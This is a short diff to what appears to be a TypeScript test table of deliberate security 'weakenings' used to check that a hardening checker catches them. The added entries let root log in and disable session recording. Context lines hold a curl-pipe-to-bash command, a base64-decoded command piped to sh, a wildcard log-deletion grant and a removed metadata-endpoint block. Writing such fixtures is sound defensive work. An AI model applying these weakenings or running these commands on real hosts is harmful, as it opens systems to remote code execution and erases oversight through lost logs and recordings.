@@ -201,6 +201,11 @@ const WEAKENINGS: Readonly<Record<string, Weakening>> = {
     'ExecStart=/usr/sbin/ip rule add priority 100 uidrange 1000-60000 to 169.254.169.254/32 prohibit',
   ),
   'a recorder under which people gain rights': hardening('NoNewPrivileges=yes'),
+  'a shared name that may enter': { facet: USERS, steps: [{ ...SCRIPT, to: replaced('(?!(?:root|', '(?!(?:') }] },
+  'sessions that no recorder has': {
+    facet: HOST,
+    steps: [{ ...SCRIPT, to: replaced('"managed": "required"', '"managed": "none"') }],
+  },
   'a script from elsewhere': added('curl --silent https://example.com/setup | bash', HOST),
   'a script that cannot be read': added('echo ZWNobwo= | base64 --decode | sh', HOST),
   'a host that deletes logs': granted('logs:DeleteLogGroup', '*'),
